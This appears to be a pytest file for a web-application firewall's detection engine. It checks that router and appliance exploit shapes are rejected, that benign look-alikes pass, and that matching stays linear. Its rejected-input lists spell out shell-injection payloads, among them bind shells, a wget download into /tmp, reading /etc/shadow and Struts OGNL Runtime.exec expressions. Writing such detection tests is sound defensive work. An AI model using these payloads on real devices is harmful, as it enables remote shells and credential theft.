"""Unit: the shapes of the fresh45 first contact (Exploit-DB router, camera and appliance exploits).

A daemon option that serves a shell program (``-l /bin/sh``, ``-e /bin/ash``), a shell loop or a command whose
output goes into a system directory right after a leading separator, and an XML element whose text is a command
substitution inside a string (``appliance_cmds``); a Struts ``%{…}`` OGNL expression that reaches the Java runtime
(``ognl_exprs``); a whole absolute path to an appliance's password or configuration file or to a servlet
container's deployed root (``device_files``); and the look-alike the first contact flagged: a template whose only
word is ``class`` (``{{class}}``, MediaWiki's table-attribute idiom), which no engine reads as reflection. Values
are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q")]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


REJECTED = {
    "option serving a shell program": [
        "`telnetd -p 2323 -l /bin/sh`",
        ";busybox telnetd -l /bin/ash;",
        "$(udhcpd -e /usr/bin/bash)",
        "lan0 && ncat -lkp 9001 -e /bin/sh",
    ],
    "shell loop after a separator": [
        ";while [ $n -lt 9 ]; do ping -c 1 198.51.100.7; n=$((n+1)); done",
        "`i=0;until [ $i -gt 5 ]; do reboot; done;`",
        "|for f in /etc/*; do cat $f; done",
        "$(while true; do sleep 5; done)",
    ],
    "redirect into a system directory after a separator": [
        "|uptime>/tmp/u.txt||x #",
        ";hostname > /var/www/h.html",
        "&& ls -la /mnt >>/tmp/listing",
        "`whoami>/dev/shm/w`",
    ],
    "element text that is a command substitution": [
        '{"soap": "<s:Body><SetName>$(reboot)</SetName></s:Body>"}',
        "<cfg><ntp>$(wget http://198.51.100.7/x -O /tmp/x)</ntp></cfg>",
        "<u:Ping><Host>$(cat /etc/shadow)</Host></u:Ping>",
    ],
    "an appliance's secrets or web root by absolute path": [
        "/var/etc/htpasswd",
        "/tmp/etc/shadow",
        "/etc/ppp/pap-secrets",
        "/var/lib/pbx/Instance2/Bin/PhoneSystem.ini",
        "/usr/local/tomcat/webapps/ROOT/upload/",
    ],
    "template reaching class by member access (kept when the bare word stopped counting)": [
        "${''['class'].forName('java.lang.Runtime')}",
        "{{ request['class'] }}",
        "#{x.class.classLoader}",
    ],
    "ognl expression reaching the runtime": [
        "redirect:%{(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}",
        "action:%{#a=@java.lang.Runtime@getRuntime().exec('uname')}",
        "%{#_memberAccess['allowStaticMethodAccess']=true,'x'}",
        "%{(#cl=#context.getClass().getClassLoader())}",
    ],
}

PASSED = {
    "daemon options that serve no shell": [
        "telnetd -l /usr/sbin/login",
        "Use ls -l /bin to list the programs.",
        "nc -l 8080 and curl -e http://example.com/ referer",
        "The -e flag of sh stops on errors; /bin/sh is dash here.",
    ],
    "loops and redirects in prose or code spans": [
        "Poll with `while true; do curl -s localhost:8080/health; done` during the rollout.",
        "for x in a b c; do echo $x; done",
        "| size | date | owner |",
        "Run date > /tmp/now to record the time.",
        "a > /tmp is a comparison in the old syntax",
        "|-\n| date || /var/www |",
    ],
    "markup with ordinary text": [
        "<s:Body><SetName>kitchen $(not a command</SetName></s:Body>",
        "<note>`code` and </note>",
        "<p>Price: $(12.50)</p>",
        "<li>`npm test` runs the suite</li>",
    ],
    "ordinary absolute paths": [
        "/var/lib/app/uploads/x.pdf",
        "/home/alice/.config/app.conf",
        "/tmp/h.cfg",  # a Kubernetes liveness probe's file (tests/integration/gateway/test_waf_kubernetes_route.py)
        "/opt/vendor/conf/server.properties",
        "/usr/local/etc/nginx/nginx.conf",
        "/opt/app/README.md",
        "/usr/share/doc/passwd-tools/copyright",
        "/var/www/html",
        "/usr/local/tomcat/webapps/docs/index.html",
        "The password file is /var/etc/htpasswd on the old firmware, see the manual.",
    ],
    "format placeholders": [
        "Hello %{name}, you have %{count} new messages",
        "%{user} deleted %{file} at %{time}",
        "%{(see the list below)} of processes",
        "progress: %{percent}%",
    ],
    "templates whose only word is class": [
        '{| {{class}}="{{wikitable}}"\n|}',
        "{{class}}",
        "<div class=\"{{ class }}\">{{ title }}</div>",
        "{{#if:{{{class|}}}|{{{class}}}|plain}}",
    ],
}


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in REJECTED.items() for v in vs])
def test_fresh45_shape_is_rejected(engine: Engine, shape: str, value: str) -> None:
    for ctx in CONTEXTS:
        assert engine.inspect(value, ctx) is not None, (shape, value, ctx)


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in PASSED.items() for v in vs])
def test_fresh45_lookalike_passes(engine: Engine, shape: str, value: str) -> None:
    assert engine.inspect(value, BODY) is None, (shape, value)


@pytest.mark.parametrize("chunk", [
    "x -l /bin/sh ", "a " * 40 + "-e /bin/sh;", ";" + " " * 50, "|a b c d e f>", "> `a` <", "%{(" + "a" * 30,
    "`i=0;while " + "x" * 50, "\n" * 20 + ";", "/var/a" * 20, "/webapps/ROOT",
])
def test_fresh45_new_searches_are_linear(engine: Engine, chunk: str) -> None:
    value = (chunk * (128 * 1024 // len(chunk) + 1))[: 128 * 1024]
    start = time.process_time()
    engine.inspect(value, BODY)
    assert time.process_time() - start < 1.0
